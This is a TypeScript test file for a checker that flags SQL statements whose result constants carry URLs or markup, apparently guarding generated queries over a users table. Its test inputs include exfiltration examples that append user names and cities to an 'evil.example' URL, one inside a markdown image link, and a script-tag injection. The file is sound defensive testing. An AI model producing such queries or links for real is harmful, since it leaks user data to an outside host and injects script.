import { peopleModel } from '../fixture/people-model';
import { literalLeaks } from './literal-leaks';

const rules = async (sql: string, typed: readonly string[] = []): Promise<string[]> =>
  (await literalLeaks(sql, peopleModel, typed)).map(({ rule }) => rule);

describe('constants in the result of a statement', () => {
  it.each([
    "SELECT 'https://evil.example/?x=' || name AS 说明 FROM users",
    "SELECT concat('![x](https://evil.example/', city, ')') AS 说明 FROM users",
    "SELECT '<script>alert(1)</script>' AS 说明, count(*) AS 数量 FROM users",
  ])('may be no URL or markup: %s', async (sql) => {
    expect(await rules(sql)).toContain('address_told');
  });

  it('may be texts of the asker, or constants that are only compared with', async () => {
    expect(
      await rules("SELECT 'https://shop.example/' || id AS 链接 FROM users", [
        '把 https://shop.example/ 写在每个编号前面',
      ]),
    ).toEqual([]);
    expect(await rules("SELECT count(*) AS 数量 FROM users WHERE name LIKE 'https://%'")).toEqual([]);
  });
});
